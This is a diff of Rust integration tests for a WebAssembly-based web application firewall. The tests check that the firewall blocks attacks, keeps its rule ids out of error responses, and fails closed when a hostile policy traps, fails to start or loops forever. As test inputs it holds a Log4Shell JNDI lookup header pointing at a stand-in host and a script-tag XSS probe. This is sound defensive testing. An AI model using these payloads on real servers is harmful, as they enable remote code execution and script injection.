@@ -119,10 +119,19 @@ fn get(host: &str, target: &str, extra: &str) -> String {
 /// The requests both bundles get, with the status each must get.
 fn cases(host: &str) -> Vec<(&'static str, String, u16)> {
     vec![
-        ("benign GET", get(host, "/products?page=2&sort=price", ""), 200),
+        (
+            "benign GET",
+            get(host, "/products?page=2&sort=price", ""),
+            200,
+        ),
         (
             "benign JSON POST",
-            post(host, "/api/orders", "application/json", r#"{"item":"book","qty":2}"#),
+            post(
+                host,
+                "/api/orders",
+                "application/json",
+                r#"{"item":"book","qty":2}"#,
+            ),
             200,
         ),
         (
@@ -142,7 +151,11 @@ fn cases(host: &str) -> Vec<(&'static str, String, u16)> {
         ),
         (
             "Log4Shell",
-            get(host, "/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"),
+            get(
+                host,
+                "/",
+                "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n",
+            ),
             403,
         ),
     ]
@@ -154,7 +167,14 @@ fn run_cases(served: &Served, host: &str, rt: Runtime) -> Vec<u16> {
     let mut statuses = Vec::new();
     for (what, raw, want) in cases(host) {
         let r = send(&served.addr, &raw);
-        assert_eq!(r.status, want, "{rt:?} {what}: {} {}\n{}", r.status, r.body, served.log());
+        assert_eq!(
+            r.status,
+            want,
+            "{rt:?} {what}: {} {}\n{}",
+            r.status,
+            r.body,
+            served.log()
+        );
         let id = r.request_id();
         if r.status == 200 {
             // The echo origin answers with the request it got.
@@ -167,7 +187,11 @@ fn run_cases(served: &Served, host: &str, rt: Runtime) -> Vec<u16> {
                 .iter()
                 .find(|h| h[0] == "x-request-id")
                 .map(|h| h[1].as_str().unwrap().to_string());
-            assert_eq!(sent_id.as_deref(), Some(id.as_str()), "{rt:?} {what}: x-request-id upstream");
+            assert_eq!(
+                sent_id.as_deref(),
+                Some(id.as_str()),
+                "{rt:?} {what}: x-request-id upstream"
+            );
             if raw.starts_with("POST") {
                 let body = raw.split("\r\n\r\n").nth(1).unwrap();
                 assert_eq!(echoed["body"], body, "{rt:?} {what}: body forwarded");
@@ -176,7 +200,11 @@ fn run_cases(served: &Served, host: &str, rt: Runtime) -> Vec<u16> {
             let j = r.json();
             assert_eq!(j["error"], "request blocked", "{rt:?} {what}");
             assert_eq!(j["request_id"], id.as_str());
-            assert!(!r.body.contains("sig-") && !r.body.contains("942"), "rule ids leak: {}", r.body);
+            assert!(
+                !r.body.contains("sig-") && !r.body.contains("942"),
+                "rule ids leak: {}",
+                r.body
+            );
         }
         statuses.push(r.status);
     }
@@ -197,7 +225,10 @@ fn signatures_bundle_runs_the_same_under_wasmtime_serve_and_the_edgewaf_host() {
         "wasi",
     );
     assert!(report.contains("ip-filter -> signatures"), "{report}");
-    assert!(report.contains("wasi:http/incoming-handler@0.2."), "{report}");
+    assert!(
+        report.contains("wasi:http/incoming-handler@0.2."),
+        "{report}"
+    );
 
     let mut results = Vec::new();
     for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
@@ -217,7 +248,10 @@ fn signatures_bundle_runs_the_same_under_wasmtime_serve_and_the_edgewaf_host() {
         println!("{rt:?}: {statuses:?}");
         results.push(statuses);
     }
-    assert_eq!(results[0], results[1], "one artifact, two runtimes, same results");
+    assert_eq!(
+        results[0], results[1],
+        "one artifact, two runtimes, same results"
+    );
 }
 
 /// The CRS policy bundled the same way (rule files mounted at /crs) blocks the
@@ -249,7 +283,8 @@ fn crs_bundle_blocks_the_same_attacks_under_both_runtimes() {
         let statuses = run_cases(&served, "api.localhost", rt);
         let log = served.log();
         assert!(
-            log.lines().any(|l| l.contains("\"action\":\"deny\"") && l.contains("\"942")),
+            log.lines()
+                .any(|l| l.contains("\"action\":\"deny\"") && l.contains("\"942")),
             "{rt:?}: no CRS SQLi rule (942xxx) in the decision lines:\n{log}"
         );
         println!("{rt:?}: {statuses:?}");
@@ -279,7 +314,9 @@ fn without_an_origin_setting_the_tenant_upstream_is_used() {
     let tenant = dir.path().join("t.toml");
     std::fs::write(
         &tenant,
-        format!("hosts = [\"t\"]\nupstream = \"http://{dead}\"\n[[policy]]\nmodule = \"signatures\"\n"),
+        format!(
+            "hosts = [\"t\"]\nupstream = \"http://{dead}\"\n[[policy]]\nmodule = \"signatures\"\n"
+        ),
     )
     .unwrap();
     let out = dir.path().join("t.wasm");
@@ -293,12 +330,18 @@ fn without_an_origin_setting_the_tenant_upstream_is_used() {
         .spawn()
         .unwrap();
     wait_for_port(&addr, "serve-component", &mut child);
-    let _p = Proc { child, name: "serve-component".into() };
+    let _p = Proc {
+        child,
+        name: "serve-component".into(),
+    };
     let r = send(&addr, &get("t", "/", ""));
     assert_eq!(r.status, 502, "{}", r.body);
     assert_eq!(r.json()["error"], "upstream unavailable");
     // A denial needs no origin at all.
-    let r = send(&addr, &get("t", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""));
+    let r = send(
+        &addr,
+        &get("t", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+    );
     assert_eq!(r.status, 403);
 }
 
@@ -307,7 +350,11 @@ fn without_an_origin_setting_the_tenant_upstream_is_used() {
 fn bundle_refuses_bad_inputs_clearly() {
     let dir = tempfile::tempdir().unwrap();
     let tenant = dir.path().join("t.toml");
-    std::fs::write(&tenant, "hosts = [\"t\"]\nupstream = \"http://127.0.0.1:9\"\n").unwrap();
+    std::fs::write(
+        &tenant,
+        "hosts = [\"t\"]\nupstream = \"http://127.0.0.1:9\"\n",
+    )
+    .unwrap();
     let junk = dir.path().join("junk.wasm");
     std::fs::write(&junk, b"\0asm not really").unwrap();
     let out = dir.path().join("out.wasm");
@@ -353,8 +400,14 @@ fn spin_bundle_imports_only_what_spin_provides() {
     let component = wasmtime::component::Component::from_file(&engine, &out).unwrap();
     let ty = component.component_type();
     let imports: Vec<String> = ty.imports(&engine).map(|(n, _)| n.to_string()).collect();
-    assert!(imports.iter().any(|i| i == "fermyon:spin/key-value@2.0.0"), "{imports:?}");
-    assert!(imports.iter().any(|i| i == "fermyon:spin/variables@2.0.0"), "{imports:?}");
+    assert!(
+        imports.iter().any(|i| i == "fermyon:spin/key-value@2.0.0"),
+        "{imports:?}"
+    );
+    assert!(
+        imports.iter().any(|i| i == "fermyon:spin/variables@2.0.0"),
+        "{imports:?}"
+    );
     for i in &imports {
         assert!(
             i.starts_with("wasi:") && i.contains("@0.2.") || i.starts_with("fermyon:spin/"),
@@ -363,4 +416,66 @@ fn spin_bundle_imports_only_what_spin_provides() {
     }
     let exports: Vec<String> = ty.exports(&engine).map(|(n, _)| n.to_string()).collect();
     assert_eq!(exports, ["wasi:http/incoming-handler@0.2.4"]);
+}
+
+/// Hostile policies inside a bundle: a trap or an init failure fails closed
+/// (5xx, never forwarded) under both runtimes, and the next request is served;
+/// under the edgewaf host an endless loop is cut at the deadline.
+#[test]
+fn hostile_policies_in_a_bundle_fail_closed() {
+    let dir = tempfile::tempdir().unwrap();
+    let echo = Echo::start();
+    let make = |name: &str, config: &str| {
+        let tenant = dir.path().join(format!("{name}.toml"));
+        std::fs::write(
+            &tenant,
+            format!(
+                "hosts = [\"h\"]\nupstream = \"http://127.0.0.1:9\"\n[[policy]]\nmodule = \"hostile\"\n\
+                 [policy.config]\n{config}\n"
+            ),
+        )
+        .unwrap();
+        let out = dir.path().join(format!("{name}.wasm"));
+        bundle(&out, &["hostile"], &tenant, "wasi");
+        out
+    };
+    let trap = make("trap", "on_request = \"trap\"");
+    let init_fails = make("initfail", "init = \"fail\"");
+    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
+        for (what, file, want) in [("trap", &trap, 500), ("init failure", &init_fails, 503)] {
+            let served = serve(rt, file, &echo.addr, &[], dir.path());
+            for _ in 0..2 {
+                let r = send(&served.addr, &get("h", "/", ""));
+                assert_eq!(
+                    r.status,
+                    want,
+                    "{rt:?} {what}: {}\n{}",
+                    r.body,
+                    served.log()
+                );
+                assert!(
+                    !r.body.contains("\"target\""),
+                    "{rt:?} {what}: reached the origin"
+                );
+            }
+        }
+    }
+    // The edgewaf host stops a guest that never returns at --deadline-ms.
+    let spin = make("loop", "on_request = \"loop\"");
+    let addr = format!("127.0.0.1:{}", free_port());
+    let mut child = edgewaf()
+        .args(["serve-component", "--deadline-ms", "500", "--listen", &addr])
+        .arg(&spin)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_for_port(&addr, "serve-component", &mut child);
+    let _p = Proc {
+        child,
+        name: "serve-component".into(),
+    };
+    // (`send` fails on a response that takes over 15 s.)
+    let r = send(&addr, &get("h", "/", ""));
+    assert_eq!(r.status, 500, "{}", r.body);
 }
